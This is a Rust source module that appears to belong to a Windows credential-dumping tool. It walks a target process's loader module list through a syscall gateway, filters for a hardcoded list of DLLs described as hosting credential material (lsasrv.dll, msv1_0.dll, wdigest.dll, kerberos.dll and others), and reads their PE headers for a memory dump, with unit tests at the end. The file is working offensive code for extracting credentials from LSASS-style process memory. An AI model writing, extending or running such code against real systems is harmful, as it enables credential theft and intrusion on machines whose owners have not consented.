//! Target-process module inventory.
//!
//! Walks the target's `PEB_LDR_DATA.InMemoryOrderModuleList` via the
//! syscall gateway and keeps only the DLLs known to host credential
//! material, reading each hit's PE headers out of the remote image to
//! recover checksum/timestamp/size-of-image.
use windows_sys::Win32::Foundation::HANDLE;

use crate::error::Error;
use crate::error_list::SoftErrorSublist;
use crate::ntapi::Gateway;
use crate::peb;

/// The ~18 DLLs known to host credential material. Matching is done on the
/// base filename, case-insensitively. Hardcoded per spec.md -- there is no
/// configuration surface for this list.
pub const IMPORTANT_MODULES: &[&str] = &[
    "lsasrv.dll",
    "msv1_0.dll",
    "tspkg.dll",
    "wdigest.dll",
    "kerberos.dll",
    "livessp.dll",
    "dpapisrv.dll",
    "kdcsvc.dll",
    "cryptdll.dll",
    "lsadb.dll",
    "samsrv.dll",
    "rsaenh.dll",
    "ncrypt.dll",
    "ncryptprov.dll",
    "eventlog.dll",
    "wevtsvc.dll",
    "termsrv.dll",
    "cloudap.dll",
];

/// One entry in the dump's module list.
///
/// `name_rva` starts at 0 and is filled in by [`crate::dump_writer`] once
/// this module's name string has actually been written into the dump
/// buffer -- nothing before that point is allowed to depend on its value.
#[derive(Debug, Clone)]
pub struct ModuleRecord {
    pub base: u64,
    pub size: u32,
    pub checksum: u32,
    pub timestamp: u32,
    pub path: String,
    pub name_rva: u32,
}

impl ModuleRecord {
    pub fn base_name(&self) -> &str {
        self.path.rsplit(['\\', '/']).next().unwrap_or(&self.path)
    }

    pub fn contains(&self, address: u64) -> bool {
        address >= self.base && address < self.base + self.size as u64
    }
}

/// Failure reading one module's headers or loader entry. Always soft --
/// the caller keeps walking the rest of the list.
#[derive(Debug, thiserror::Error, serde::Serialize)]
pub enum ModuleReadError {
    #[error("failed to read loader entry at {address:#x}")]
    LoaderEntry { address: u64 },
    #[error("failed to read PE headers for {path}: {source}")]
    PeHeaders {
        path: String,
        #[serde(serialize_with = "crate::error_list::serializers::serialize_goblin_error")]
        source: goblin::error::Error,
    },
}

/// Walks the target's loader list and returns every allow-listed module,
/// or every module when `important_only` is `false` (diagnostic use).
///
/// Per-module read failures are pushed to `soft_errors` and skipped,
/// matching the rest of the walk's traversal. An empty result is a hard
/// error: [`Error::NoImportantModules`].
pub fn enumerate_modules(
    gateway: &Gateway,
    process: HANDLE,
    important_only: bool,
    mut soft_errors: SoftErrorSublist<'_, ModuleReadError>,
) -> crate::Result<Vec<ModuleRecord>> {
    let peb_address = gateway.peb_address(process)?;

    let ldr = match read_u64(gateway, process, peb_address + peb::PEB_LDR_OFFSET as u64) {
        Some(v) => v,
        None => return Err(Error::ReadFailed),
    };
    let list_head = ldr + peb::LDR_IN_MEMORY_ORDER_MODULE_LIST_OFFSET as u64;

    let mut modules = Vec::new();
    let mut current = match read_u64(gateway, process, list_head) {
        Some(v) => v,
        None => return Err(Error::ReadFailed),
    };

    while current != 0 && current != list_head {
        let entry_base = current - peb::ENTRY_IN_MEMORY_ORDER_LINKS_OFFSET as u64;

        let next = read_u64(gateway, process, current);

        match read_module_entry(gateway, process, entry_base, &mut soft_errors) {
            Some(record) => {
                let keep = !important_only
                    || IMPORTANT_MODULES
                        .iter()
                        .any(|m| m.eq_ignore_ascii_case(record.base_name()));
                if keep {
                    modules.push(record);
                }
            }
            None => soft_errors.push(ModuleReadError::LoaderEntry { address: entry_base }),
        }

        current = match next {
            Some(v) => v,
            None => break,
        };
    }

    if important_only && modules.is_empty() {
        return Err(Error::NoImportantModules);
    }

    Ok(modules)
}

fn read_module_entry(
    gateway: &Gateway,
    process: HANDLE,
    entry_base: u64,
    soft_errors: &mut SoftErrorSublist<'_, ModuleReadError>,
) -> Option<ModuleRecord> {
    let base = read_u64(gateway, process, entry_base + peb::ENTRY_DLL_BASE_OFFSET as u64)?;
    let size = read_u32(gateway, process, entry_base + peb::ENTRY_SIZE_OF_IMAGE_OFFSET as u64)?;
    let path = read_unicode_string(gateway, process, entry_base + peb::ENTRY_FULL_DLL_NAME_OFFSET as u64)?;

    if base == 0 || size == 0 {
        return None;
    }

    // A module whose PE headers can't be parsed is still worth dumping --
    // checksum/timestamp just end up zeroed -- so this pushes a soft error
    // and keeps going rather than dropping the module entirely.
    let (checksum, timestamp) = match read_pe_identity(gateway, process, base, size) {
        Ok(identity) => identity,
        Err(source) => {
            soft_errors.push(ModuleReadError::PeHeaders { path: path.clone(), source });
            (0, 0)
        }
    };

    Some(ModuleRecord {
        base,
        size,
        checksum,
        timestamp,
        path,
        name_rva: 0,
    })
}

/// Reads the module's headers out of the remote image and parses just
/// enough of the PE to recover `checksum`/`timestamp`. Headers are small
/// and always mapped at the image base, so one bounded read suffices.
fn read_pe_identity(gateway: &Gateway, process: HANDLE, base: u64, size: u32) -> Result<(u32, u32), goblin::error::Error> {
    const HEADER_READ_SIZE: usize = 4096;
    let mut buf = vec![0u8; HEADER_READ_SIZE.min(size as usize)];
    let (status, read) = gateway.read_virtual_memory(process, base, &mut buf);
    if !status.is_success() && !status.is_partial_copy() {
        return Err(goblin::error::Error::Malformed(format!(
            "failed to read PE headers at {base:#x}: {status}"
        )));
    }
    buf.truncate(read);

    let pe = goblin::pe::PE::parse(&buf)?;
    let checksum = pe.header.optional_header.map(|h| h.windows_fields.check_sum).unwrap_or(0);
    let timestamp = pe.header.coff_header.time_date_stamp;
    Ok((checksum, timestamp))
}

pub(crate) fn read_u64(gateway: &Gateway, process: HANDLE, address: u64) -> Option<u64> {
    let mut buf = [0u8; 8];
    let (status, read) = gateway.read_virtual_memory(process, address, &mut buf);
    (status.is_success() && read == buf.len()).then(|| u64::from_le_bytes(buf))
}

pub(crate) fn read_u32(gateway: &Gateway, process: HANDLE, address: u64) -> Option<u32> {
    let mut buf = [0u8; 4];
    let (status, read) = gateway.read_virtual_memory(process, address, &mut buf);
    (status.is_success() && read == buf.len()).then(|| u32::from_le_bytes(buf))
}

fn read_unicode_string(gateway: &Gateway, process: HANDLE, address: u64) -> Option<String> {
    let mut header = [0u8; 16];
    let (status, read) = gateway.read_virtual_memory(process, address, &mut header);
    if !status.is_success() || read != header.len() {
        return None;
    }
    let length = u16::from_le_bytes([header[0], header[1]]) as usize;
    let buffer_ptr = u64::from_le_bytes(header[8..16].try_into().unwrap());
    if length == 0 || buffer_ptr == 0 {
        return Some(String::new());
    }

    let mut bytes = vec![0u8; length];
    let (status, read) = gateway.read_virtual_memory(process, buffer_ptr, &mut bytes);
    if !status.is_success() && !status.is_partial_copy() {
        return None;
    }
    bytes.truncate(read - (read % 2));

    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    Some(String::from_utf16_lossy(&units))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(path: &str) -> ModuleRecord {
        ModuleRecord {
            base: 0x7ffe_0000,
            size: 0x1000,
            checksum: 0,
            timestamp: 0,
            path: path.to_string(),
            name_rva: 0,
        }
    }

    #[test]
    fn base_name_strips_directory_components() {
        let module = record(r"C:\Windows\System32\lsasrv.dll");
        assert_eq!(module.base_name(), "lsasrv.dll");
    }

    #[test]
    fn base_name_is_unchanged_when_there_is_no_path() {
        let module = record("wdigest.dll");
        assert_eq!(module.base_name(), "wdigest.dll");
    }

    #[test]
    fn important_modules_list_matches_case_insensitively() {
        let module = record(r"C:\Windows\System32\MSV1_0.dll");
        assert!(IMPORTANT_MODULES
            .iter()
            .any(|m| m.eq_ignore_ascii_case(module.base_name())));
    }

    #[test]
    fn contains_checks_the_half_open_image_range() {
        let module = record(r"C:\Windows\System32\kerberos.dll");
        assert!(module.contains(0x7ffe_0000));
        assert!(module.contains(0x7ffe_0fff));
        assert!(!module.contains(0x7ffe_1000));
        assert!(!module.contains(0x7ffd_ffff));
    }
}
